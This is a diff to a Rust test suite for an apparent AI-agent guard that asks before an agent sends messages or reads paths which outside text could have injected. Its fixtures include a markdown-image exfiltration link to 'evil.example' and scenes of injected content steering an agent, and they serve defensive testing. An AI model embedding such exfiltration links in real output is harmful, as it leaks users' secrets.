@@ -3,6 +3,7 @@
 use std::sync::Arc;
 
 use serde_json::{Value, json};
+use steward::call::{Effect, Role};
 use steward::guard::grounding::Read;
 use steward::guard::intent::{Intent, Slot};
 use steward::guard::verdict::{Mode, Scene};
@@ -248,7 +249,13 @@ async fn a_rightly_addressed_message_is_asked_about_when_it_carries_what_the_own
     secret.add(&label, "The alarm code is 4711.");
     let secret = Scene { read: Arc::new(secret), ..alone(HI) };
     let carries = "ask: It leaves the house with a link to evil.example that you did not name.";
-    check(&house().await, vec![
+    let address =
+        "ask: It leaves the house with the mail address bo@example.com that you did not name.";
+    let house = house().await;
+    house.write(|tx| whitelist::add_address(tx, "cy@example.com", 0, &by())).await.unwrap();
+    check(&house, vec![
+        (alone(HI), SEND, to_ann("Answer to bo@example.com"), address),
+        (alone(HI), SEND, to_ann("Answer to cy@example.com"), "go"),
         (alone(link), SEND, to_ann("Here: https://example.org/a."), "go"),
         (alone(link), SEND, to_ann("Here: http://evil.example/a"), carries),
         (wished(after_outside(link)), SEND, to_ann("![x](https://evil.example/?d=1)"), carries),
@@ -353,5 +360,23 @@ async fn a_name_that_is_spelled_nearly_like_another_stands_for_nobody_elses_valu
     ] {
         let got = verdict(&house, alone(words), SEND, to(address)).await;
         assert_eq!(in_short(&got), expected, "{words}, {address}");
+    }
+}
+
+const DISK: Tool = ("mcp__x__y", Effect::Read, false, &[("path", Role::Path)]);
+
+#[tokio::test]
+async fn a_path_that_names_nothing_is_asked_about_only_once_text_from_outside_could_have_made_it_up()
+ {
+    let path = opened_folder().join("not-there.txt").display().to_string();
+    let asks = format!("ask: {path} names nothing here and is not in your words.");
+    let house = house().await;
+    for (scene, expected) in [
+        (alone("Look into my folder"), "go"),
+        (wished(after_outside("Look into my folder")), asks.as_str()),
+        (wished(after_outside(&format!("Look at {path}"))), "go"),
+    ] {
+        let got = verdict(&house, scene, DISK, json!({ "path": path })).await;
+        assert_eq!(in_short(&got), expected);
     }
 }
